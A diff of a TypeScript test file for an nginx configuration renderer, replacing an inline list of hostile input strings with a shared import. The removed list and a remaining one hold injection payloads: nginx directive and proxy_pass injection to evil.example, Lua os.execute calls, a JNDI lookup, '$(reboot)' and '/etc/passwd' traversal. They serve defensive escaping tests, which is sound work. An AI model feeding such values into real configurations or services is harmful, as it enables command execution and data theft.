@@ -1,4 +1,5 @@
 import type { EdgeSite, EdgeStream } from '@rampart/contracts';
+import { HOSTILE_VALUES as HOSTILE } from '@rampart/contracts/testing';
 import { describe, expect, it } from 'vitest';
 import { makeSite, makeSnapshot, makeStream } from '../testing/snapshots.ts';
 import { renderMainConfig } from './nginx-conf.ts';
@@ -7,37 +8,6 @@ import { renderSite, renderSiteBody } from './site.ts';
 import { renderStream, renderStreamBody } from './stream.ts';
 import { renderTree } from './tree.ts';
 import type { RenderOptions } from './types.ts';
-
-/** Values that would end a string, start a directive, interpolate a variable, open a comment or run Lua. */
-const HOSTILE = [
-  'a\r\nX-Injected: 1',
-  'a\nreturn 200;',
-  'a\rb',
-  'a\u0000b',
-  'a\tb',
-  'a"b',
-  "a'b",
-  'a{b',
-  'a}b',
-  'a;b',
-  '$host',
-  'a$request_uri',
-  'a#comment',
-  'a\\"b',
-  '`id`',
-  'x; proxy_pass http://evil.example;',
-  '"; return 200 "pwned',
-  "'; return 200 'pwned",
-  '} server { listen 1; } #',
-  'include /etc/passwd;',
-  'content_by_lua_block { os.execute("id") }',
-  "access_by_lua 'ngx.exit(200)';",
-  'set_by_lua $x "return os.getenv(\'HOME\')";',
-  // A log4j-style lookup, built so that it is not a template placeholder here.
-  `${'$'}{jndi:ldap://evil.example/a}`,
-  '$(reboot)',
-  'a\u2028b\u0085',
-];
 
 /** Values made of harmless characters that are still not what the field allows (shape, not syntax). */
 const MISSHAPEN = ['evil.example proxy_pass', 'include /etc/passwd', 'x y', '', ' ', '-', '../../etc/passwd'];
